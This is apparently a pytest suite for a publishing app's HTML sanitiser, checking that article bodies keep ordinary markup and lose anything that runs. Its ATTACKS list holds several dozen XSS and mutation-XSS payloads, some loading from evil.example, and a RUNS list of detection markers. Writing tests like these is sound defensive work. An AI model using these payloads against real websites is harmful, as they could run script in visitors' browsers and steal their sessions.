"""An article's body keeps what it says and loses what it could do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from publisher.articles.sanitising import clean, plain, words

# Samples of what sanitisers were broken by; none may leave anything that runs.
ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://a.example/x.png onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img srcset="https://evil.example/x.png 1x">',
    "<svg onload=alert(1)><circle></circle></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="data:text/html,x"></object><embed src="x">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "https://evil.example/";</style>',
    # Mutation: what one parser calls text, the next calls an element.
    '<math><mi><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    '<svg><style><img title="</style><img src=1 onerror=alert(1)>"></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<p title="<h1 onclick=alert(1)>">x</p>',
]
RUNS = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "javascript:",
    "vbscript:",
    "data:",
    "evil.example",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left_in_an_article_body(attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>").lower()
    assert "before" in cleaned
    assert not any(sign in cleaned for sign in RUNS), cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<p>one <em>two</em> <strong>three</strong><br>four</p>",
        "<h2>a</h2><h3>b</h3><h4>c</h4><hr>",
        "<blockquote><p>It was going the same way.</p></blockquote><p><cite>Banning</cite></p>",
        '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
        '<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>',
        '<figure><img src="/media/a.png" alt="A gull" width="20" height="10"></figure>',
        "<figure><pre>a</pre><figcaption>A gull</figcaption></figure>",
        '<p><img src="https://pictures.example/a.png?x=1&amp;y=2" alt=""></p>',
        '<p><a href="https://courier.example/" rel="noopener">a</a></p>',
        '<p><a href="mailto:ada@courier.example" rel="noopener">Ada</a></p>',
        "<pre><code>a  b</code></pre>",
        '<p dir="rtl" lang="he"><bdi>שלום</bdi> <bdo dir="ltr">b</bdo></p>',
        '<p><abbr title="Orange">O</abbr> <time datetime="2026-11-22">today</time> <q>x</q></p>',
        "<p>H<sub>2</sub>O <sup>2</sup> <u>a</u> <s>b</s> <b>c</b> <i>d</i></p>",
    ],
)
def test_what_an_article_is_made_of_stays(html: str) -> None:
    assert clean(html) == html


def test_the_title_stays_the_only_first_heading() -> None:
    cleaned = clean('<h1 dir="rtl">One</h1><p>&lt;h1&gt;</p><img alt="<h1>" src="/media/a.png">')
    assert cleaned.startswith('<h2 dir="rtl">One</h2><p>&lt;h1&gt;</p>')
    assert "<h1" not in cleaned


def test_style_class_and_id_are_left_out() -> None:
    assert clean('<p class="a" id="b" style="color:red" data-x="y">x</p>') == "<p>x</p>"


@pytest.mark.parametrize("source", ["//evil.example/x.png", "x.png", "../x.png", "/admin/x.png"])
def test_a_picture_comes_from_the_web_or_from_us(source: str) -> None:
    assert clean(f'<img src="{source}" alt="A gull">') == '<img alt="A gull">'


def test_a_path_does_not_climb_out_of_our_media() -> None:
    assert clean('<img src="/media/../desk/logout/">') == "<img>"


@pytest.mark.parametrize("size", ["100%", "0", "99999", "1;x"])
def test_a_size_is_a_number_of_pixels(size: str) -> None:
    assert clean(f'<img src="/media/a.png" width="{size}">') == '<img src="/media/a.png">'


def test_control_characters_are_left_out() -> None:
    assert clean("<p>a\0b\x01c&#1;d\x7f</p>") == "<p>abcd</p>"


@given(st.text(alphabet="<>/\"'=&;!- ahimgsrctp1\n\0", max_size=80))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    assert clean(clean(html)) == clean(html)


def test_plain_text_has_paragraphs_with_blank_lines_between() -> None:
    body = clean(
        "<h2>Gates</h2><p>One <b>two</b>\n three<br>four &amp; five</p>"
        "<ul><li>a</li><li><p>b</p></li></ul><table><tr><th>Hour</th><th>Metres</th></tr>"
        "<tr><td>6</td><td>2.94</td></tr></table><pre>  x\n y</pre><p> </p><p>end</p>"
    )
    assert plain(body) == (
        "Gates\n\nOne two three\nfour & five\n\n- a\n- b\n\nHour Metres\n6 2.94\n\n  x\n y\n\nend"
    )


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ("", 0),
        ("<p>One two, <b>thr</b>ee.</p><p>four</p>", 4),
        ("<p>Don\u2019t e-mail 1,000 people \u2013 ever.</p>", 5),
        ("<p>東京は雨です。</p>", 3),
        ("<p>في البدء كان الكلمة</p>", 4),
    ],
)
def test_words_are_counted_as_they_are_read(html: str, count: int) -> None:
    assert words(clean(html)) == count
